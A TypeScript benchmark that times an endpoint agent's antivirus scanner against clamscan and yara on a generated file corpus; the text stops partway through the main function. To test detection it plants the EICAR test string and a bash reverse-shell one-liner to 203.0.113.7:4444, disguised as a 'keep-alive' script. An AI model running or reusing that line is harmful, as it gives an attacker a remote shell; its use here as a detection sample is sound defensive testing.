/**
 * Benchmark: the agent's antivirus scanner against Debian's `clamscan` and `yara`, on one corpus.
 *
 * Corpus (generated, deterministic for a size and seed): copies of this system's ELF binaries and
 * libraries with a few bytes changed (each copy distinct), logs, scripts, sources and configs,
 * compressible CSV and page-like data, random data, zip and tar.gz archives with members (every
 * tenth zip holding a tar.gz), three large files (a disk image, a log, a tar.gz backup: ≥ 200 MB each in the
 * full form), and planted detections built at run time: EICAR as a file, in a zip member and at
 * the end of the large log; a file whose SHA-256 is one of BENCH_SCAN_INDICATORS hash indicators;
 * a script matching a team pack's rule; a reverse-shell script matching a built-in pack rule.
 *
 * Runs, in one process, on a warm page cache (the corpus is read once before anything is timed):
 *   - Cordon: the agent's Scanner in-process, as the RunAntiVirusScan action drives it (built-in
 *     pack + the team pack, the hash indicators, archives opened, SHA-256/SHA-1 of every file, the
 *     quarantine index written, concurrency min(4, cores), the CpuPacer on the agent's cpuMicros),
 *     uncapped and at a 50 % cap. CPU % = this process's CPU time (all threads: process.cpuUsage)
 *     over wall time and cores.
 *   - `yara -r -N -w -p <same concurrency>` with the same rules (the built-in pack + the team pack
 *     as one file). yara hashes nothing and does not open archives.
 *   - `clamscan -r --no-summary -i` with the same hashes as an .hsb and the rules' literal patterns
 *     (EICAR, the team marker) as an .ndb, every size/count limit raised so it skips nothing, and
 *     `--alert-exceeds-max=yes` so a skip would show. Its database load is part of its run; a run on
 *     an empty directory is reported beside it. CPU % for both from /proc/self/stat's cutime/cstime.
 *   Order: Cordon, yara, clamscan, yara, Cordon (best of the two for Cordon and yara), then the 50 %
 *   run, then the floor: every file only read, at the same concurrency.
 *
 * Targets (issue 16): Cordon ≥ 10× clamscan and ≥ 1× yara (MB/s); CPU 50 ± 10 % at the 50 % cap.
 *
 *   npm run bench:scan                              # 2 GiB corpus (BENCH_SCAN_GB counts GiB)
 *   BENCH_SCAN_GB=0.3 npm run bench:scan            # quick form
 *   BENCH_SCAN_CACHE=1 npm run bench:scan           # keep the corpus in /tmp/cordon-bench-scan-<v>-<gb>gb-s<seed> for the next run
 *   BENCH_SCAN_CAP=25 BENCH_SCAN_ONLY=cordon …      # Cordon alone, uncapped and at another cap
 *   BENCH_SCAN_ONLY=cordon node --cpu-prof --cpu-prof-dir=/tmp/prof --import tsx bench/scan.bench.ts   # with a CPU profile
 */
import { spawn } from 'node:child_process';
import { createCipheriv, createHash } from 'node:crypto';
import { closeSync, createWriteStream, existsSync, lstatSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, readSync, rmSync, statSync, writeFileSync, writeSync } from 'node:fs';
import { open } from 'node:fs/promises';
import { availableParallelism, cpus, tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { pipeline } from 'node:stream/promises';
import { constants as zc, createGzip, gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import yazl from 'yazl';
import { BUILT_IN_RULEPACK, type IndicatorEntry } from '@cordon/protocol';
import { builtInRules, compileRules } from '@cordon/protocol/yara';
import { linuxPlatform } from '../packages/agent/src/platform/linux/index.js';
import { FileHashIndicators } from '../packages/agent/src/scan/hash-indicators.js';
import { ScanIndexWriter } from '../packages/agent/src/scan/index-writer.js';
import { CpuPacer } from '../packages/agent/src/scan/pacer.js';
import type { ScanRuleSet } from '../packages/agent/src/scan/rules.js';
import { DEFAULT_SCAN_LIMITS, Scanner, type Detection } from '../packages/agent/src/scan/scanner.js';

const GB = Number(process.env.BENCH_SCAN_GB ?? 2);
const SEED = Number(process.env.BENCH_SCAN_SEED ?? 1);
const INDICATORS = Number(process.env.BENCH_SCAN_INDICATORS ?? 1000);
const CACHE = process.env.BENCH_SCAN_CACHE === '1';
/** `cordon`: only Cordon's runs, uncapped and capped (for a CPU profile of them alone). */
const ONLY = process.env.BENCH_SCAN_ONLY;
/** The cap of the capped run (the agent's default, 50 %). */
const CAP = Number(process.env.BENCH_SCAN_CAP ?? 50) / 100;
const CORES = availableParallelism();
/** What the RunAntiVirusScan action uses. */
const CONCURRENCY = Math.max(1, Math.min(4, CORES));
/** Bumped when the corpus generator changes, so a cached corpus of an older generator is not reused. */
const GENERATOR = 'v2';
const MiB = 1024 * 1024;
const log = (s: string) => process.stderr.write(`${s}\n`);

// Built at run time from pieces: the repository holds no live sample.
const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-' + 'ANTIVIRUS-TEST-FILE!$H+H*');
const TEAM_MARKER = 'team-marker-' + '7f3a';
const TEAM_PACK = `rule Team_Marker { meta: severity = "High" category = "Execution" mitre = "T1059.004" strings: $a = "${TEAM_MARKER}" condition: $a }\n`;
const REVERSE_SHELL = 'bash -i >& ' + '/dev/' + 'tcp/' + '203.0.113.7/4444 0>&1';

// --- Corpus ------------------------------------------------------------------------------------

/** A planted detection and who should find it (clamscan is given no signature for built-in pack rules). */
interface Planted {
  path: string;
  what: string;
  cordon: string;
  yara: boolean;
  clamscan: boolean;
}

interface Corpus {
  generator: string;
  root: string;
  files: number;
  bytes: number;
  byKind: Record<string, { files: number; bytes: number }>;
  planted: Planted[];
  indicator: { sha256: string; size: number };
}

/** mulberry32: a small seeded generator (the corpus is the same for a size and seed). */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Incompressible, deterministic bytes: an AES-CTR key stream. */
function noise(label: string): (n: number) => Buffer {
  const key = createHash('sha256').update(`cordon-bench-scan-${SEED}-${label}`).digest();
  const cipher = createCipheriv('aes-256-ctr', key, Buffer.alloc(16));
  return (n) => cipher.update(Buffer.alloc(n));
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
const between = (r: () => number, lo: number, hi: number) => Math.floor(lo + r() * (hi - lo));
/** Sizes spread over orders of magnitude (most files small, a few large), as on a real disk. */
const logSize = (r: () => number, lo: number, hi: number) => Math.floor(Math.exp(Math.log(lo) + r() * (Math.log(hi) - Math.log(lo))));

const USERS = ['alice', 'bob', 'carol', 'deploy', 'www-data', 'postgres', 'backup', 'svc-ci'];
const SERVICES = ['sshd', 'nginx', 'app-api', 'cron', 'kernel', 'systemd', 'postgres', 'worker', 'dockerd'];
const WORDS = ['request', 'session', 'cache', 'queue', 'batch', 'client', 'upstream', 'token', 'record', 'index', 'config', 'report', 'export', 'import', 'sync', 'shard', 'bucket', 'invoice', 'order', 'metric'];

function logLines(r: () => number, bytes: number): string {
  const out: string[] = [];
  let n = 0;
  let t = Date.UTC(2026, 10, 1) + Math.floor(r() * 1e9);
  while (n < bytes) {
    t += Math.floor(r() * 3000);
    const ip = `10.${between(r, 0, 255)}.${between(r, 0, 255)}.${between(r, 1, 254)}`;
    const svc = pick(r, SERVICES);
    const msg = [
      () => `Accepted publickey for ${pick(r, USERS)} from ${ip} port ${between(r, 1024, 65535)} ssh2: ED25519 SHA256:${createHash('sha1').update(String(t)).digest('base64').slice(0, 27)}`,
      () => `${ip} - - "GET /api/v1/${pick(r, WORDS)}s/${between(r, 1, 99999)}?page=${between(r, 1, 40)} HTTP/1.1" ${pick(r, [200, 200, 200, 304, 404, 500])} ${between(r, 120, 90000)} "-" "Mozilla/5.0 (X11; Linux x86_64)"`,
      () => `${pick(r, WORDS)} ${pick(r, WORDS)} finished in ${between(r, 1, 9000)} ms (${between(r, 0, 50000)} rows, ${between(r, 0, 12)} retries)`,
      () => `connection to ${ip}:${pick(r, [5432, 6379, 443, 8080])} reset by peer (errno=104) after ${between(r, 1, 30000)} ms`,
      () => `EXT4-fs (vda${between(r, 1, 4)}): mounted filesystem with ordered data mode. Quota mode: none.`,
      () => `Started ${pick(r, WORDS)}-${pick(r, WORDS)}.service - ${pick(r, WORDS)} ${pick(r, WORDS)} job.`,
    ];
    const line = `${new Date(t).toISOString()} host-${between(r, 1, 40)} ${svc}[${between(r, 100, 65000)}]: ${pick(r, msg)()}\n`;
    out.push(line);
    n += line.length;
  }
  return out.join('');
}

function shellScript(r: () => number, bytes: number): string {
  const out = ['#!/bin/sh', 'set -eu', `# ${pick(r, WORDS)} maintenance for app${between(r, 1, 99)}`];
  let n = 40;
  while (n < bytes) {
    const a = between(r, 1, 99);
    const line = pick(r, [
      `LOG_DIR=/var/log/app${a}`,
      `for f in "$LOG_DIR"/*.log; do gzip -9 "$f"; done`,
      `if [ -f /etc/default/app${a} ]; then . /etc/default/app${a}; fi`,
      `echo "rotating ${pick(r, WORDS)} $(date +%F)"`,
      `systemctl restart app${a}.service`,
      `find /var/cache/app${a} -type f -mtime +${between(r, 1, 30)} -delete`,
      `curl -fsS https://updates.example.com/app${a}/latest -o /var/tmp/app${a}.tar.gz`,
      `tar -xzf /var/tmp/app${a}.tar.gz -C /opt/app${a}`,
      `chown -R app${a}:app${a} /opt/app${a}`,
    ]);
    out.push(line);
    n += line.length + 1;
  }
  return `${out.join('\n')}\n`;
}

function pythonSource(r: () => number, bytes: number): string {
  const out = ['import json', 'import os', 'from dataclasses import dataclass', ''];
  let n = 60;
  for (let i = 0; n < bytes; i++) {
    const w = pick(r, WORDS);
    const f = `def ${w}_${i}(items, limit=${between(r, 1, 500)}):\n    """Return the ${w}s over the limit."""\n    total = 0\n    for item in items:\n        if item.get("${pick(r, WORDS)}", 0) > limit:\n            total += item["${w}"] * ${between(r, 2, 9)}\n    return json.dumps({"${w}": total, "path": os.path.join("/srv", "${w}")})\n\n`;
    out.push(f);
    n += f.length;
  }
  return out.join('\n');
}

function cSource(r: () => number, bytes: number): string {
  const out = ['#include <stdio.h>', '#include <stdlib.h>', '#include <string.h>', ''];
  let n = 60;
  for (let i = 0; n < bytes; i++) {
    const w = pick(r, WORDS);
    const f = `static int ${w}_${i}(const char *buf, size_t len)\n{\n\tsize_t i;\n\tint acc = ${between(r, 0, 99)};\n\tfor (i = 0; i < len; i++)\n\t\tacc = acc * ${between(r, 3, 31)} + buf[i];\n\tif (acc < 0)\n\t\tfprintf(stderr, "${w}: overflow at %zu\\n", i);\n\treturn acc;\n}\n`;
    out.push(f);
    n += f.length;
  }
  return out.join('\n');
}

function confFile(r: () => number, bytes: number): string {
  const out = [`# ${pick(r, WORDS)} settings`];
  for (let n = 20; n < bytes; n += out.at(-1)!.length + 1) out.push(`${pick(r, WORDS)}_${pick(r, WORDS)} = ${pick(r, [String(between(r, 0, 9999)), 'yes', 'no', `/var/lib/${pick(r, WORDS)}`])}`);
  return `${out.join('\n')}\n`;
}

function jsonConfig(r: () => number, bytes: number): string {
  const o: Record<string, unknown> = { service: `app${between(r, 1, 99)}`, listen: `0.0.0.0:${between(r, 1024, 9999)}`, workers: between(r, 1, 16) };
  let n = 80;
  for (let i = 0; n < bytes; i++) {
    const v = { enabled: r() > 0.3, timeoutMs: between(r, 100, 60000), upstream: `https://${pick(r, WORDS)}.internal.example:${between(r, 1024, 9999)}/`, tags: [pick(r, WORDS), pick(r, WORDS)] };
    o[`${pick(r, WORDS)}_${i}`] = v;
    n += JSON.stringify(v).length + 20;
  }
  return JSON.stringify(o, null, 2);
}

function csvData(r: () => number, bytes: number): string {
  const out = ['id,timestamp,sensor,value,status'];
  let n = 32;
  let t = 1_780_000_000;
  for (let i = 0; n < bytes; i++) {
    t += between(r, 1, 60);
    const line = `${i},${t},sensor-${between(r, 1, 64)},${(r() * 100).toFixed(3)},${pick(r, ['ok', 'ok', 'ok', 'warn', 'fail'])}`;
    out.push(line);
    n += line.length + 1;
  }
  return `${out.join('\n')}\n`;
}

/** Database-like pages: a header and a few records in each 8 KB page, the rest zeros. */
function pageData(r: () => number, bytes: number): Buffer {
  const b = Buffer.alloc(Math.ceil(bytes / 8192) * 8192);
  for (let off = 0; off < b.length; off += 8192) {
    b.write(`PAGE${String(off / 8192).padStart(8, '0')}`, off);
    for (let k = 0; k < between(r, 0, 12); k++) b.write(`${pick(r, WORDS)}=${between(r, 0, 1e9)};`, off + 16 + k * 40);
  }
  return b;
}

const TEXT_KINDS: [string, (r: () => number, n: number) => string, number, number][] = [
  ['log', logLines, 1024, 256 * 1024],
  ['conf', confFile, 100, 4096],
  ['sh', shellScript, 300, 8 * 1024],
  ['py', pythonSource, 1024, 48 * 1024],
  ['c', cSource, 2 * 1024, 96 * 1024],
  ['json', jsonConfig, 200, 24 * 1024],
];

/** ELF files of this system (binaries and libraries, up to 16 MB), sorted: the copies' sources. */
function systemElfs(): { path: string; size: number }[] {
  const out: { path: string; size: number }[] = [];
  const head = Buffer.alloc(4);
  const visit = (dir: string, depth: number) => {
    let names: string[];
    try {
      names = readdirSync(dir).sort();
    } catch {
      return;
    }
    for (const name of names) {
      const p = join(dir, name);
      const st = lstatSync(p, { throwIfNoEntry: false });
      if (!st) continue;
      if (st.isDirectory() && depth > 0) visit(p, depth - 1);
      if (!st.isFile() || st.size < 4096 || st.size > 16 * MiB) continue;
      try {
        const fd = openSync(p, 'r');
        try {
          readSync(fd, head, 0, 4, 0);
        } finally {
          closeSync(fd);
        }
      } catch {
        continue;
      }
      if (head.readUInt32LE(0) === 0x464c457f) out.push({ path: p, size: st.size });
    }
  };
  for (const d of ['/usr/bin', '/usr/sbin', '/usr/libexec', '/usr/lib/x86_64-linux-gnu', '/usr/lib/aarch64-linux-gnu']) visit(d, 2);
  if (out.length === 0) throw new Error('no ELF files found under /usr to copy');
  return out;
}

/** A copy of an ELF file with 8 bytes in its middle changed, so every copy is distinct (hash and content). */
function elfCopy(src: { path: string }, variant: number): Buffer {
  const b = readFileSync(src.path);
  b.writeUInt32LE(variant, Math.floor(b.length / 2));
  b.writeUInt32LE(SEED, Math.floor(b.length / 2) + 4);
  return b;
}

function zip(entries: [string, Buffer][]): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const z = new yazl.ZipFile();
    for (const [name, data] of entries) z.addBuffer(data, name);
    z.end();
    const chunks: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => chunks.push(c)).on('end', () => resolve(Buffer.concat(chunks))).on('error', reject);
  });
}

async function tarBytes(entries: [string, Buffer][]): Promise<Buffer> {
  const p = pack();
  for (const [name, data] of entries) p.entry({ name }, data);
  p.finalize();
  const chunks: Buffer[] = [];
  for await (const c of p) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

async function generate(root: string): Promise<Corpus> {
  const total = GB * 1024 * MiB;
  const r = rng(SEED);
  const rand = noise('random');
  const elfs = systemElfs();
  const byKind: Corpus['byKind'] = {};
  const planted: Planted[] = [];
  const dirIndex: Record<string, number> = {};
  let inDir = 0;
  let dir = '';
  const write = (kind: string, name: string, data: Buffer | string, where?: string) => {
    if (!where && (inDir === 0 || inDir >= 250)) {
      dirIndex[kind] = (dirIndex[kind] ?? -1) + 1;
      dir = join(root, kind, `d${String(dirIndex[kind]).padStart(4, '0')}`);
      mkdirSync(dir, { recursive: true });
      inDir = 0;
    }
    const path = join(where ?? dir, name);
    if (where) mkdirSync(where, { recursive: true });
    else inDir++;
    writeFileSync(path, data);
    const k = (byKind[kind] ??= { files: 0, bytes: 0 });
    k.files++;
    k.bytes += typeof data === 'string' ? Buffer.byteLength(data) : data.length;
    return path;
  };
  const fill = (kind: string, budget: number, one: (i: number) => number) => {
    inDir = 0;
    let used = 0;
    for (let i = 0; used < budget; i++) used += one(i);
  };
  const textFile = (i: number, max = Infinity): [string, string] => {
    const [ext, gen, lo, hi] = pick(r, TEXT_KINDS);
    return [`${pick(r, WORDS)}-${i}.${ext}`, gen(r, Math.min(max, logSize(r, lo, hi)))];
  };

  log(`generating a ${GB} GiB corpus in ${root} (seed ${SEED})`);
  // ELF binaries and libraries: 20 %.
  fill('elf', total * 0.2, (i) => {
    const src = pick(r, elfs);
    const b = elfCopy(src, i);
    write('elf', `${src.path.split('/').pop()}.${i}`, b);
    return b.length;
  });
  // Logs, scripts, sources, configs: 14 %.
  fill('text', total * 0.14, (i) => {
    const [name, text] = textFile(i);
    write('text', name, text);
    return text.length;
  });
  // Compressible data: 9 %.
  fill('data', total * 0.09, (i) => {
    const size = logSize(r, 16 * 1024, 4 * MiB);
    const b = r() < 0.6 ? Buffer.from(csvData(r, size)) : pageData(r, size);
    write('data', `${pick(r, WORDS)}-${i}.${b[0] === 0x69 ? 'csv' : 'db'}`, b);
    return b.length;
  });
  // Random data (media, compressed blobs, keys): 12 %, a few empty files among them.
  fill('random', total * 0.12, (i) => {
    const b = i % 500 === 7 ? Buffer.alloc(0) : rand(logSize(r, 512, 8 * MiB));
    write('random', `blob-${i}.${pick(r, ['bin', 'jpg', 'mp4', 'gz', 'key'])}`, b);
    return Math.max(b.length, 1);
  });
  // Archives: 10 %: zip and tar.gz of text, ELF and random members; every 20th zip holds a tar.gz.
  const members = (i: number, bytes: number): [string, Buffer][] => {
    const out: [string, Buffer][] = [];
    for (let n = 0, k = 0; n < bytes; k++) {
      const roll = r();
      let m: [string, Buffer];
      if (roll < 0.45) {
        const [name, text] = textFile(k, 512 * 1024);
        m = [`docs/${name}`, Buffer.from(text)];
      } else if (roll < 0.75) {
        const src = pick(r, elfs);
        m = [`bin/${src.path.split('/').pop()}`, elfCopy(src, 1_000_000 + i * 1000 + k)];
      } else m = [`assets/blob-${k}.bin`, rand(logSize(r, 1024, 2 * MiB))];
      out.push(m);
      n += m[1].length;
    }
    return out;
  };
  const archives: (() => Promise<number>)[] = [];
  let archiveBudget = total * 0.1;
  for (let i = 0; archiveBudget > 0; i++) {
    const entries = members(i, logSize(r, 256 * 1024, 16 * MiB));
    const raw = entries.reduce((s, [, b]) => s + b.length, 0);
    archiveBudget -= raw * 0.6; // about what they compress to
    archives.push(async () => {
      if (i % 2 === 0) {
        const inner = i % 20 === 0 ? [['nested/inner.tar.gz', gzipSync(await tarBytes(members(i + 1e5, 512 * 1024)))] as [string, Buffer]] : [];
        const b = await zip([...entries, ...inner]);
        write('archive', `bundle-${i}.zip`, b);
        return b.length;
      }
      const b = gzipSync(await tarBytes(entries));
      write('archive', `backup-${i}.tar.gz`, b);
      return b.length;
    });
  }
  inDir = 0;
  for (const a of archives) await a();

  // Three large files: 35 % (each at least 200 MB in the full form; over the 32 MB read-whole limit in any form).
  const large = Math.max(33 * MiB, Math.floor((total * 0.35) / 3));
  const bigDir = join(root, 'large');
  mkdirSync(bigDir, { recursive: true });
  {
    const fd = openSync(join(bigDir, 'disk.img'), 'w');
    for (let n = 0; n < large; n += 8 * MiB) writeSync(fd, rand(Math.min(8 * MiB, large - n)));
    closeSync(fd);
    const k = (byKind.large ??= { files: 0, bytes: 0 });
    k.files++;
    k.bytes += large;
  }
  {
    const path = join(bigDir, 'app.log');
    const fd = openSync(path, 'w');
    let n = 0;
    while (n < large - 4 * MiB) n += writeSync(fd, logLines(r, 4 * MiB));
    n += writeSync(fd, Buffer.concat([Buffer.from(`${new Date(Date.UTC(2026, 10, 30)).toISOString()} host-3 upload[4242]: stored attachment `), EICAR, Buffer.from('\n')]));
    closeSync(fd);
    byKind.large!.files++;
    byKind.large!.bytes += n;
    planted.push({ path, what: 'EICAR at the end of a large log', cordon: 'EICAR_Test_File', yara: true, clamscan: true });
  }
  {
    // A backup: mostly incompressible members, within the archive limits (64 MiB a member, 512 MiB in all).
    const path = join(bigDir, 'backup.tar.gz');
    const p = pack();
    const gz = createGzip({ level: zc.Z_BEST_SPEED });
    const done = pipeline(p, gz, createWriteStream(path));
    let raw = 0;
    for (let k = 0; raw < large * 1.15; k++) {
      const m = k % 4 === 3 ? Buffer.from(logLines(r, logSize(r, 64 * 1024, 8 * MiB))) : k % 4 === 2 ? elfCopy(pick(r, elfs), 2_000_000 + k) : rand(logSize(r, 64 * 1024, 24 * MiB));
      raw += m.length;
      await new Promise<void>((resolve, reject) => p.entry({ name: `srv/backup/part-${k}` }, m, (e) => (e ? reject(e) : resolve())));
    }
    p.finalize();
    await done;
    byKind.large!.files++;
    byKind.large!.bytes += statSync(path).size;
  }

  // Planted detections, among the ordinary files.
  const plant = (kind: string, where: string, name: string, data: Buffer | string, p: Omit<Planted, 'path'>) => planted.push({ path: write(kind, name, data, join(root, where)), ...p });
  plant('planted', 'text/d0003', 'eicar.com', EICAR, { what: 'EICAR as a file', cordon: 'EICAR_Test_File', yara: true, clamscan: true });
  plant('planted', 'archive/d0000', 'invoice-2026-11.zip', await zip([['invoice.txt', Buffer.from(logLines(r, 4096))], ['attachments/readme.com', EICAR]]), { what: 'EICAR in a zip member', cordon: 'EICAR_Test_File', yara: false, clamscan: true });
  const dropper = Buffer.concat([Buffer.from('\x7fELF'), noise('indicator')(96 * 1024)]);
  plant('planted', 'random/d0002', 'update-helper', dropper, { what: 'a hash indicator (SHA-256)', cordon: 'indicator: bench dropper', yara: false, clamscan: true });
  plant('planted', 'text/d0010', 'nightly-job.sh', `${shellScript(r, 2048)}# ${TEAM_MARKER}\n`, { what: "a team pack's rule", cordon: 'Team_Marker', yara: true, clamscan: true });
  plant('planted', 'text/d0020', 'net-check.sh', `#!/bin/bash\n# keep-alive\n${REVERSE_SHELL}\n`, { what: 'a built-in rule (reverse shell)', cordon: 'ReverseShell_Bash_DevTcp', yara: true, clamscan: false });

  const sum = Object.values(byKind).reduce((a, k) => ({ files: a.files + k.files, bytes: a.bytes + k.bytes }), { files: 0, bytes: 0 });
  return { generator: GENERATOR, root, ...sum, byKind, planted, indicator: { sha256: createHash('sha256').update(dropper).digest('hex'), size: dropper.length } };
}

/** The corpus: made afresh in `work`, or (BENCH_SCAN_CACHE=1) taken from or made in the cache directory. */
async function corpus(work: string): Promise<Corpus> {
  if (!CACHE) return generate(join(work, 'corpus'));
  const root = join(tmpdir(), `cordon-bench-scan-${GENERATOR}-${GB}gb-s${SEED}`);
  const manifest = join(root, '..', `${root.split('/').pop()}.json`);
  if (existsSync(manifest)) {
    log(`reusing the cached corpus ${root}`);
    return JSON.parse(readFileSync(manifest, 'utf8')) as Corpus;
  }
  rmSync(root, { recursive: true, force: true });
  const c = await generate(root);
  writeFileSync(manifest, JSON.stringify(c));
  return c;
}

// --- Runs --------------------------------------------------------------------------------------

interface Run {
  name: string;
  seconds: number;
  /** CPU seconds (all threads of this process, or the child's). */
  cpu: number;
  peakRssMb: number | null;
  /** What it found: outer file path → names. */
  found: Map<string, string[]>;
  notes: string[];
  /** What it read, when not the whole corpus. */
  of?: { files: number; bytes: number };
  /** Share of the run this process's main thread was busy (its event loop's utilization), for in-process runs. */
  mainBusy?: number;
}

/** Children's CPU seconds that have ended and been waited for (cutime + cstime). */
function childCpuSeconds(): number {
  const rest = readFileSync('/proc/self/stat', 'utf8').split(') ')[1]!.split(' ');
  return (Number(rest[13]) + Number(rest[14])) / 100;
}

const rssMb = (pid: number | 'self') => {
  try {
    return Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]) / 1024;
  } catch {
    return 0;
  }
};

const addFound = (found: Map<string, string[]>, path: string, name: string) => found.set(path, [...(found.get(path) ?? []), name]);

/** A program's run: wall time, its CPU time (from this process's cutime), its peak RSS, its stdout. */
async function program(name: string, cmd: string, args: string[]): Promise<{ run: Omit<Run, 'found' | 'notes'>; stdout: string; stderr: string; code: number }> {
  const cpu0 = childCpuSeconds();
  const t = performance.now();
  const child = spawn(cmd, args, { stdio: ['ignore', 'pipe', 'pipe'] });
  let peak = 0;
  const sampler = setInterval(() => (peak = Math.max(peak, rssMb(child.pid!))), 200);
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (c: string) => (stdout += c));
  child.stderr.setEncoding('utf8').on('data', (c: string) => (stderr += c));
  const code = await new Promise<number>((resolve, reject) => child.on('error', reject).on('close', (c) => resolve(c ?? -1)));
  clearInterval(sampler);
  const seconds = (performance.now() - t) / 1000;
  return { run: { name, seconds, cpu: childCpuSeconds() - cpu0, peakRssMb: peak || null }, stdout, stderr, code };
}

async function yaraRun(rulesFile: string, root: string, label = 'yara'): Promise<Run> {
  const { run, stdout, stderr, code } = await program(label, 'yara', ['-r', '-N', '-w', '-p', String(CONCURRENCY), rulesFile, root]);
  if (code !== 0) throw new Error(`yara exited with ${code}: ${stderr.slice(0, 500)}`);
  const found = new Map<string, string[]>();
  for (const line of stdout.split('\n').filter(Boolean)) {
    const at = line.indexOf(' ');
    addFound(found, line.slice(at + 1), line.slice(0, at));
  }
  const errors = stderr.split('\n').filter(Boolean);
  return { ...run, found, notes: errors.length ? [`${errors.length} errors, first: ${errors[0]}`] : [] };
}

async function clamscanRun(db: string, root: string, label = 'clamscan'): Promise<Run> {
  const limit = '4000M';
  const { run, stdout, stderr, code } = await program(label, 'clamscan', [
    '-d',
    db,
    '-r',
    '--no-summary',
    '-i',
    '--follow-dir-symlinks=0',
    '--follow-file-symlinks=0',
    `--max-filesize=${limit}`,
    `--max-scansize=${limit}`,
    `--pcre-max-filesize=${limit}`,
    '--max-files=1000000',
    '--max-recursion=64',
    '--max-dir-recursion=64',
    '--max-scantime=3600000',
    '--alert-exceeds-max=yes',
    root,
  ]);
  if (code !== 0 && code !== 1) throw new Error(`clamscan exited with ${code}: ${stderr.slice(0, 500)}`);
  const found = new Map<string, string[]>();
  for (const line of stdout.split('\n').filter((l) => l.endsWith(' FOUND'))) {
    const m = /^(.*): (\S+) FOUND$/.exec(line)!;
    addFound(found, m[1]!, m[2]!);
  }
  const errors = stderr.split('\n').filter((l) => l && !/^LibClamAV Warning: (\*\*\*|The virus database is older)/.test(l));
  return { ...run, found, notes: errors.length ? [`${errors.length} stderr lines, first: ${errors[0]}`] : [] };
}

async function cordonRun(label: string, cap: number, rules: ScanRuleSet, indicators: IndicatorEntry[], root: string, work: string, archives = DEFAULT_SCAN_LIMITS.archives): Promise<Run & { files: number; bytes: number; members: number; skipped: Record<string, number>; pacerUsed: number }> {
  const found = new Map<string, string[]>();
  const pacer = new CpuPacer(cap, CORES, () => linuxPlatform.cpuMicros());
  const index = new ScanIndexWriter(join(work, 'index.jsonl'));
  const scanner = new Scanner({
    rules,
    indicators: new FileHashIndicators(indicators),
    pacer,
    limits: { ...DEFAULT_SCAN_LIMITS, archives, concurrency: CONCURRENCY },
    onDetection: (d: Detection) => addFound(found, d.path.split('!')[0]!, `${d.engine === 'YARA' ? d.threat : `indicator: ${d.threat}`}${d.path.includes('!') ? ` (${d.path.slice(d.path.indexOf('!'))})` : ''}`),
    // The agent writes the quarantine index as it goes: part of a scan's cost.
    onFile: (f) => index.add(f),
    // The worker as the agent runs it: bundled JavaScript (npm run bench:scan builds it first), not TypeScript under tsx.
    workerModule: BUNDLED_WORKER,
  });
  let peak = 0;
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage.rss() / MiB)), 200);
  const elu0 = performance.eventLoopUtilization();
  const cpu0 = process.cpuUsage();
  const t = performance.now();
  const outcome = await scanner.run([{ path: root, why: 'filesystem', recursive: true }], { signal: new AbortController().signal });
  const seconds = (performance.now() - t) / 1000;
  const cpu = process.cpuUsage(cpu0);
  const mainBusy = performance.eventLoopUtilization(elu0).utilization;
  clearInterval(sampler);
  await index.end();
  const notes = outcome.skippedList.slice(0, 3).map((s) => `skipped ${s.path}: ${s.reason} (${s.detail})`);
  return { name: label, seconds, cpu: (cpu.user + cpu.system) / 1e6, peakRssMb: peak, found, notes, mainBusy, files: outcome.files, bytes: outcome.bytes, members: outcome.members, skipped: outcome.skippedByReason as Record<string, number>, pacerUsed: pacer.used() };
}

/** Every regular file under `root`, with its size. */
function listFiles(root: string): { path: string; size: number }[] {
  const out: { path: string; size: number }[] = [];
  for (const e of readdirSync(root, { withFileTypes: true, recursive: true })) {
    if (!e.isFile()) continue;
    const path = join(e.parentPath, e.name);
    out.push({ path, size: statSync(path).size });
  }
  return out;
}

/** `fn` over every file, `CONCURRENCY` at a time: wall and CPU seconds (one piece of the scanner's work alone). */
async function part(name: string, files: { path: string; size: number }[], fn: (f: { path: string; size: number }) => Promise<void>): Promise<Run> {
  let next = 0;
  const elu0 = performance.eventLoopUtilization();
  const cpu0 = process.cpuUsage();
  const t = performance.now();
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      while (next < files.length) await fn(files[next++]!);
    }),
  );
  const cpu = process.cpuUsage(cpu0);
  return { name, seconds: (performance.now() - t) / 1000, cpu: (cpu.user + cpu.system) / 1e6, peakRssMb: null, found: new Map(), notes: [], mainBusy: performance.eventLoopUtilization(elu0).utilization };
}

const BUFFER = DEFAULT_SCAN_LIMITS.bufferBytes;
const BUNDLED_WORKER = new URL('../packages/cli/dist/scan-worker.mjs', import.meta.url);

/** Reads a file whole up to 32 MiB, else as a stream of 1 MiB pieces (the warm-up, and the floor: reading alone). */
async function readAll(path: string, size: number): Promise<void> {
  const fh = await open(path, 'r');
  try {
    if (size <= BUFFER) await fh.readFile();
    else for await (const c of fh.createReadStream({ start: 0, autoClose: false, highWaterMark: MiB })) void c;
  } finally {
    await fh.close();
  }
}

// --- Main --------------------------------------------------------------------------------------

async function main(): Promise<void> {
  const work = mkdtempSync(join(tmpdir(), 'cordon-bench-scan-'));
  try {
    const t0 = performance.now();
    const c = await corpus(work);
    log(`corpus: ${c.files} files, ${(c.bytes / 1e9).toFixed(2)} GB (${((performance.now() - t0) / 1000).toFixed(0)} s)`);

    // The same rules for everyone: the built-in pack and a team pack, compiled by YARA-X here and by yara there.
    const compiled = compileRules([
      { name: BUILT_IN_RULEPACK, source: builtInRules() },
      { name: 'team', source: TEAM_PACK },
    ]);
    const rules: ScanRuleSet = { ...compiled, packs: [{ name: 'team', version: 1 }], contentVersion: 1 };
    const rulesFile = join(work, 'rules.yar');
